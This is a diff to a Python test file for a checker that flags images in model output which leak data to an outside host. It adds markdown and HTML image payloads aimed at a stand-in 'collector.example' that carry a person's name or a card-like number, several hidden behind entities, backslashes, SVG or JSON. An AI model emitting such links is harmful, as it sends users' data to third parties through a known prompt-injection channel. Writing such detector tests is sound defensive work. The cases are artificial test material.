@@ -102,6 +102,12 @@ CARRYING = {
     "as another source": f'<img alt="a > b" srcset="{HOST}/p.png?name=wetherby 2x">',
     "by a reference in a quotation": f"![x][r]\n\n> [r]: {HOST}/p.png?name=wetherby",
     "without a scheme": "![x](//collector.example/p.png?d=440012349876)",
+    "with an entity for a sign": "![logo](https&#58;//collector.example/p.png?d=4400-1234-9876)",
+    "with entities for its value": f'<img src="{HOST}/p.png?d=&#52;&#x34;&#48;&#48;-1234-9876">',
+    "with a sign behind a backslash": r"![logo](https\://collector.example/p.png?d=4400-1234-9876)",
+    "with spaces between brackets": f"![a](<{HOST}/p png?d=4400 1234 9876>)",
+    "as a picture in SVG": f'<svg><image href="{HOST}/p.png?name=wetherby"/></svg>',
+    "within JSON": json.dumps({"page": f'<img src="{HOST}/p.png?name=wetherby">'}),
     "with backslashes": r'<img src="https:\\collector.example\p.png?name=wetherby">',
 }
 
@@ -118,6 +124,8 @@ HARMLESS = {
     "a picture of its own": f"![a cat]({HOST}/cats/1.png?w=640&h=480)",
     "no address": "![diagram](diagram.png)",
     "a link beside a picture": f"![a [cat]](cat.png) and [more]({HOST}/?q=Philomena+Wetherby)",
+    "a picture that is quoted": f"Write &lt;img src=&quot;{HOST}/?q=Philomena+Wetherby&quot;&gt;",
+    "a link in a page": f'<img src="cat.png"> and <a href="{HOST}/?q=Philomena+Wetherby">more</a>',
     "a program": f'<script src="{HOST}/philomena-wetherby/0.js"></script> #![allow(x)]',
     "no picture": "An image is written ![alt](address).",
     "a broken address": "![x](https://[::1/p.png)",
@@ -133,6 +141,9 @@ def test_a_picture_that_the_prompt_itself_has_may_be_shown() -> None:
     signed = f"{HOST}/a.png?user=philomena-wetherby&signature=0a1b2c3d4e5f"
     assert faults(f"![chart]({signed})", document=f"The chart is at {signed} for a day.") == ()
     assert faults(f"![chart]({signed})") == ("carrying_link",)
+    as_html = f'<img src="{signed.replace("&", "&amp;")}">'
+    assert faults(as_html, document=f"The chart is at {signed} for a day.") == ()
+    assert faults(f"![chart]({signed})", document=f"The chart is {as_html}.") == ()
 
 
 def test_the_signature_of_an_attack_is_recorded_and_withholds_where_that_is_set() -> None:
